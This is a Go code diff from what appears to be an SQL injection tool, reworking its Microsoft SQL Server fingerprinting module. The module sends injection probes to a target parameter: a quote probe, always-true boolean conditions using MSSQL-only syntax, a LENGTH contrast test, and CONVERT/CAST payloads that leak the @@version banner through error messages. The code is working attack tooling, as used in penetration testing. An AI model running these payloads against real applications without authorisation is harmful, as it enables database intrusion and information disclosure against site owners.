@@ -4,53 +4,129 @@ import (
 	"context"
 	"strings"
 
-	"github.com/0x6d61/sqleech/internal/engine"
-	"github.com/0x6d61/sqleech/internal/transport"
+	"github.com/0x6d61/sqleech/internal/detector"
 )
 
-// mssqlFingerprinter probes for MSSQL using version-extraction payloads.
-type mssqlFingerprinter struct{}
+// MSSQLFingerprinter identifies Microsoft SQL Server backends through
+// behavioural probing.
+type MSSQLFingerprinter struct{}
 
-func (f *mssqlFingerprinter) DBMS() string { return "MSSQL" }
+// DBMS returns the name of the target DBMS.
+func (f *MSSQLFingerprinter) DBMS() string {
+	return "MSSQL"
+}
 
-func (f *mssqlFingerprinter) Fingerprint(ctx context.Context, req *FingerprintRequest) (*FingerprintResult, error) {
-	// Try error-based: CONVERT(INT, @@version) leaks the version string.
-	payloads := []struct {
-		prefix, core, suffix string
-	}{
-		{"", "CONVERT(INT,(@@version))-- ", ""},
-		{"'", "CONVERT(INT,(@@version))-- ", ""},
-		{"", "CAST((@@version) AS INT)-- ", ""},
-		{"'", "CAST((@@version) AS INT)-- ", ""},
+// Fingerprint performs multiple checks to identify an MSSQL backend:
+//  1. Error signatures - looks for MSSQL-specific error patterns in a quote probe
+//  2. Syntax test      - @@SERVERNAME system variable (MSSQL-specific)
+//  3. Function test    - LEN('a')=1 (MSSQL's name for LENGTH)
+//  4. Operator test    - 'a'+'b'='ab' (MSSQL concatenates strings with +)
+//  5. Function test    - ISNULL(NULL,1)=1 (two-argument form is MSSQL-specific)
+//  6. Contrast test    - LENGTH('a')=1, which MySQL and PostgreSQL accept
+//
+// Checks 2-5 count only when the always-true condition leaves the page
+// unchanged, so they also work against blind targets that show no errors.
+//
+// Confidence scoring:
+//   - Error signature match:              0.7
+//   - Each of checks 2-5 accepted:        +0.1
+//   - Checks 2-5 all accepted and LENGTH
+//     rejected (the page changes):        +0.3
+//
+// An identified backend's version is read from the @@version banner a
+// CONVERT or CAST error leaks, when the target shows errors.
+func (f *MSSQLFingerprinter) Fingerprint(ctx context.Context, req *FingerprintRequest) (*FingerprintResult, error) {
+	result := &FingerprintResult{
+		DBMS: "MSSQL",
 	}
 
-	for _, p := range payloads {
-		if err := ctx.Err(); err != nil {
+	var confidence float64
+
+	// --- Check 1: Error signatures via a quote probe ---
+	quotePayload := req.Parameter.Value + "'"
+	quoteResp, err := sendProbe(ctx, req.Client, req.Target, req.Parameter, quotePayload)
+	if err != nil {
+		return nil, err
+	}
+
+	sqlErrors := detector.FindSQLErrors(quoteResp.Body)
+	if matches, ok := sqlErrors["MSSQL"]; ok && len(matches) > 0 {
+		confidence += 0.7
+	}
+
+	// --- Checks 2-5: MSSQL-only syntax in always-true conditions ---
+	accepted := 0
+	for _, cond := range []string{
+		"@@SERVERNAME IS NOT NULL",
+		"LEN('a')=1",
+		"'a'+'b'='ab'",
+		"ISNULL(NULL,1)=1",
+	} {
+		resp, err := sendProbe(ctx, req.Client, req.Target, req.Parameter, req.Parameter.Value+" AND "+cond+"-- ")
+		if err != nil {
 			return nil, err
 		}
+		if responseEqual(req.Baseline, resp) {
+			accepted++
+			confidence += 0.1
+		}
+	}
 
-		payloadStr := req.Parameter.Value + p.prefix + " AND " + p.core + p.suffix
-		probeReq := buildFingerprintRequest(req.Target, req.Parameter, payloadStr)
-		resp, err := req.Client.Do(ctx, probeReq)
+	// --- Check 6: LENGTH() must fail where LEN() worked; a page that
+	// ignores the condition accepts both ---
+	if accepted == 4 {
+		lengthResp, err := sendProbe(ctx, req.Client, req.Target, req.Parameter, req.Parameter.Value+" AND LENGTH('a')=1-- ")
 		if err != nil {
-			continue
+			return nil, err
 		}
-
-		body := string(resp.Body)
-		// MSSQL CONVERT error: "Conversion failed when converting the nvarchar value '<version>' to data type int."
-		version := parseMSSQLConvertError(body)
-		if version != "" {
-			return &FingerprintResult{
-				Identified: true,
-				DBMS:       "MSSQL",
-				Version:    normalizeVersion(version),
-				Banner:     version,
-				Confidence: 0.92,
-			}, nil
+		if !responseEqual(req.Baseline, lengthResp) {
+			confidence += 0.3
 		}
 	}
 
-	return nil, nil
+	// Cap confidence at 1.0
+	if confidence > 1.0 {
+		confidence = 1.0
+	}
+
+	result.Confidence = confidence
+	result.Identified = confidence >= 0.7
+	if !result.Identified {
+		return result, nil
+	}
+
+	if err := f.probeBanner(ctx, req, result); err != nil {
+		return nil, err
+	}
+	return result, nil
+}
+
+// probeBanner leaks @@version through a CONVERT or CAST conversion error
+// and, when the target reflects it, sets the banner and version.
+func (f *MSSQLFingerprinter) probeBanner(ctx context.Context, req *FingerprintRequest, result *FingerprintResult) error {
+	payloads := []struct {
+		prefix, core string
+	}{
+		{"", "CONVERT(INT,(@@version))-- "},
+		{"'", "CONVERT(INT,(@@version))-- "},
+		{"", "CAST((@@version) AS INT)-- "},
+		{"'", "CAST((@@version) AS INT)-- "},
+	}
+
+	for _, p := range payloads {
+		resp, err := sendProbe(ctx, req.Client, req.Target, req.Parameter, req.Parameter.Value+p.prefix+" AND "+p.core)
+		if err != nil {
+			return err
+		}
+
+		// "Conversion failed when converting the nvarchar value '<version>' to data type int."
+		if banner := parseMSSQLConvertError(string(resp.Body)); banner != "" {
+			result.Version = normalizeVersion(banner)
+			result.Banner = banner
+			return nil
+		}
+	}
+	return nil
 }
 
 // parseMSSQLConvertError extracts the value from a MSSQL type-conversion error.
@@ -100,33 +176,3 @@ func normalizeVersion(banner string) string {
 	}
 	return "unknown"
 }
-
-// buildFingerprintRequest creates a transport.Request for fingerprinting probes.
-// Duplicated from helpers.go to keep mssql.go self-contained.
-func buildFingerprintRequest(target *engine.ScanTarget, param *engine.Parameter, payloadStr string) *transport.Request {
-	req := &transport.Request{
-		Method:      target.Method,
-		URL:         target.URL,
-		Body:        target.Body,
-		ContentType: target.ContentType,
-	}
-	if target.Headers != nil {
-		req.Headers = make(map[string]string, len(target.Headers))
-		for k, v := range target.Headers {
-			req.Headers[k] = v
-		}
-	}
-	if target.Cookies != nil {
-		req.Cookies = make(map[string]string, len(target.Cookies))
-		for k, v := range target.Cookies {
-			req.Cookies[k] = v
-		}
-	}
-	switch param.Location {
-	case engine.LocationQuery:
-		req.URL = modifyQueryParam(target.URL, param.Name, payloadStr)
-	case engine.LocationBody:
-		req.Body = modifyBodyParam(target.Body, param.Name, payloadStr)
-	}
-	return req
-}